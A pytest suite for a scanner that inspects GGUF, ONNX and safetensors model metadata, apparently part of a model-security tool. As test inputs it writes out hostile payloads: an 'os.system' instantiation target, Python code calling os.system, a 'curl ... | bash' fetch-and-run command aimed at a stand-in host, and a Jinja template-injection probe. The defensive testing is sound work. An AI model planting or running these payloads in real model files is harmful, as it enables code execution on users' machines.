"""What rides in the metadata of GGUF, ONNX and safetensors: templates, settings that loaders follow, code."""

import json

import pytest

from tests.builders import gguf, onnx, safetensors
from tests.builders.models import assert_blocked, blocking, weighed
from tests.builders.protobuf import field

CARRIERS = {
    "gguf": lambda key, text: ("m.gguf", gguf.gguf({key: text}, [], b"")),
    "onnx": lambda key, text: (
        "m.onnx",
        onnx.onnx(onnx.node("Relu"), more=field(14, onnx.entry(key, text))),
    ),
    "safetensors": lambda key, text: ("m.safetensors", safetensors.honest(__metadata__={key: text})),
}
CARRIER = pytest.mark.parametrize("carrier", CARRIERS.values(), ids=CARRIERS)


def verdict_on(carrier, key, text):
    path, data = carrier(key, text)
    return weighed(data, path)


@CARRIER
@pytest.mark.parametrize("text", ['{"_target_": "os.system", "command": "echo"}', "_target_: os.system\ncommand: echo"])
def test_target_in_metadata(carrier, text):
    """CVE-2025-23304 and its kin: a loader that instantiates what the metadata name."""
    assert_blocked(verdict_on(carrier, "config", text), "os.system")


@CARRIER
def test_layers_of_keras_in_metadata(carrier):
    """A configuration of layers, wherever it is kept."""
    config = {"class_name": "TFSMLayer", "config": {"filepath": "/m"}}
    assert "KERAS-402" in [f.threat.code for f in blocking(verdict_on(carrier, "config", json.dumps(config)))]


@CARRIER
@pytest.mark.parametrize(
    "text",
    ["__import__('os').system('echo')", "x = 1; os.system('echo')", "curl -s http://x.invalid/a.sh | bash"],
)
def test_code_in_metadata(carrier, text):
    """No writer puts a call or a command there."""
    assert "META-401" in [f.threat.code for f in blocking(verdict_on(carrier, "note", text))]


@CARRIER
@pytest.mark.parametrize(
    "text",
    [
        "{0: 'person', 1: 'car'}",
        '{"1_x": {"tag": 2}}',
        "To evaluate, compile the model and execute it; see https://example.invalid/install.sh",
        "Install with curl or wget.\nThen run the shell script of the project | or not.",
        "imports os and subprocess; no exec() here",
        "C:\\data\\train",
    ],
)
def test_plain_words_in_metadata_pass(carrier, text):
    """Names of classes, counts of tags, notes for people."""
    assert not blocking(verdict_on(carrier, "note", text))


@pytest.mark.parametrize("key", ["tokenizer.chat_templates", "general.prompt_template"])
def test_template_under_other_keys_of_gguf(key):
    """In an array, or under a key of somebody's own."""
    template = "{{ ''.__class__.__mro__ }}"
    value = ["{{ x }}", template] if key.endswith("s") else template
    found = assert_blocked(weighed(gguf.gguf({key: value}, [], b""), "m.gguf"))
    assert found.threat.code == "GGUF-101"


def test_tokens_that_look_like_a_template_pass():
    """A vocabulary holds every word that there is."""
    tokens = ["{{", "__class__", "../x", "exec(", "__import__(", "%}"]
    assert not blocking(weighed(gguf.gguf({"tokenizer.ggml.tokens": tokens}, [], b""), "m.gguf"))
